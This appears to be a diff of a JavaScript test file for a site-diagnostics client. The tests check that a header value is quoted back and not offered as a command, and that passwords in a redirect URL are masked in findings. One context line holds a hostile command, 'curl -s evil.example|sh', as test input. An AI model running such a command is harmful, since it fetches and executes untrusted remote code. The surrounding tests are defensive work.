@@ -97,3 +97,16 @@ it("what a site says is no line to paste", async () => {
   const hint = await hintFor("HIT `curl -s evil.example|sh;`");
   assert.match(hint, /\(x-cache: HIT 'curl -s evil\.example\|sh;'\)/);
 });
+
+// Holds P12 of SECURITY.md.
+it("a finding quotes no half of a password that ends an address, as `?` and `#` do", async () => {
+  for (const typed of ["S3cret?Pass-w0rd", "S3cret#Pass-w0rd"]) {
+    const Location = `https://evil.example/in/${typed}/x`;
+    const fetch = async () => new Response(null, { status: 302, headers: { Location } });
+    const wp = createClient({ site: SITE, plugin, fetch });
+    const told = JSON.stringify(await wp.diagnose({ typed: [typed] }));
+    assert.ok(told.includes("evil.example/in/***"), told);
+    assert.ok(!/S3cret|Pass-w0rd/.test(told), told);
+    wp.close();
+  }
+});
